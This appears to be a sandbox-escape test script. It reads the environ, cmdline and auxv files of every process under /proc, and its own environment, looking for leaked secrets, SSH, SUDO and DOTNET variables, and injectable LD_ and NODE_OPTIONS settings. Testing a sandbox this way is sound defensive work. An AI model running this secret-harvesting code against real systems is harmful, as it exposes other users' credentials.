# Reads the environment of every process for the server's secrets, its own environment included.
import os
from attack import escaped, finish, held, host

for directory in ["/proc/1", "/proc/self", f"/proc/{os.getppid()}", *(f"/proc/{p}" for p in host["pids"]), *(f"/proc/{n}" for n in os.listdir("/proc") if n.isdigit())]:
    for name in ("environ", "cmdline", "auxv"):
        try:
            with open(f"{directory}/{name}", "rb") as file:
                data = file.read()
        except OSError as error:
            held(f"{directory}/{name}: {error.strerror}")
            continue
        if b"sandboxmcp-secret" in data or b"SANDBOXMCP_" in data or b"DOTNET" in data:
            escaped(f"{directory}/{name}: {data[:200]!r}")
for name, value in os.environ.items():
    if "sandboxmcp-secret" in value or name.startswith(("SANDBOXMCP", "DOTNET", "SUDO", "SSH")):
        escaped(f"own environment: {name}={value}")
    if name.startswith("LD_") or name in ("PYTHONSTARTUP", "NODE_OPTIONS", "BASH_ENV", "NOTIFY_SOCKET"):
        escaped(f"inherited {name}={value}")
held(f"own environment: {sorted(os.environ)}")
finish()
